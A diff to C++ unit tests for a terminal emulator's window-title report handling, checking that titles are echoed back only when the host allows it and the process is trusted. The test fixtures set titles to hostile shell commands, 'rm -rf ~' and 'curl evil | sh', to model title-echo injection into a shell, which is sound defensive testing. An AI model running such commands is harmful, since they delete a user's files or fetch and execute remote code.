@@ -3,6 +3,7 @@
 
 #include "GoldenScreens.h"
 #include "RecordingTerminalDelegate.h"
+#include "ScreenSize.h"
 #include "TerminalLog.h"
 
 #include "Zentrova/Engine/Terminal.h"
@@ -139,13 +140,46 @@ TEST_F(WindowOperationFixture, RepliesUseEightBitIntroducersWhenAskedTo)
 }
 
 // A title is chosen by the program; echoing it back lets a program that printed it (or a file it
-// was asked to show) type into the shell. An untrusted process gets the report, but empty.
-TEST_F(WindowOperationFixture, TitleReportsToAnUntrustedProcessAreEmpty)
+// was asked to show) type into the shell. The reports are answered only when the host allows them,
+// and then only to a trusted process; the other reports are answered either way.
+TEST(WindowOperations, TitleReportsOnlyWhereTheHostAllowsThem)
 {
-    terminal->feed("\x1b]1;rm -rf ~\x07\x1b]2;curl evil | sh\x07");
-    delegate.trusted = false;
-    EXPECT_EQ(reply("\x1b[20t"), "\x1b]L\x1b\\");
-    EXPECT_EQ(reply("\x1b[21t"), "\x1b]l\x1b\\");
+    const std::string titles = "\x1b]1;rm -rf ~\x07\x1b]2;curl evil | sh\x07";
+    const std::string answers = "\x1b]Lrm -rf ~\x1b\\\x1b]lcurl evil | sh\x1b\\";
+    const struct {
+        const char* name;
+        bool allowed;
+        bool trusted;
+        std::string reply;
+    } cases[] = {
+        { "allowed, trusted", true, true, answers + "\x1b[8;24;80t" },
+        { "not allowed", false, true, "\x1b[8;24;80t" },
+        { "allowed, untrusted", true, false, "\x1b[8;24;80t" },
+        { "neither", false, false, "\x1b[8;24;80t" },
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.name);
+        for (bool byteByByte : { false, true }) {
+            SCOPED_TRACE(byteByByte ? "byte by byte" : "whole");
+            RecordingTerminalDelegate delegate;
+            delegate.titleReports = c.allowed;
+            delegate.trusted = c.trusted;
+            Terminal terminal(&delegate, screenSize(80, 24));
+            feedWholeOrByteByByte(terminal, titles + "\x1b[20t\x1b[21t\x1b[18t", byteByByte);
+            EXPECT_EQ(delegate.sent, c.reply);
+        }
+    }
+}
+
+TEST(WindowOperations, AHostThatSaysNothingLeavesTitleReportsUnanswered)
+{
+    struct PlainHost : TerminalDelegate {
+        void send(Terminal&, std::span<const uint8_t> data) override { sent.append(data.begin(), data.end()); }
+        std::string sent;
+    } host;
+    Terminal terminal(&host);
+    terminal.feed("\x1b]2;x\x07\x1b[21t\x1b[20t");
+    EXPECT_EQ(host.sent, "");
 }
 
 TEST_F(WindowOperationFixture, UnhandledRequestsAreLoggedWithTheirParameters)
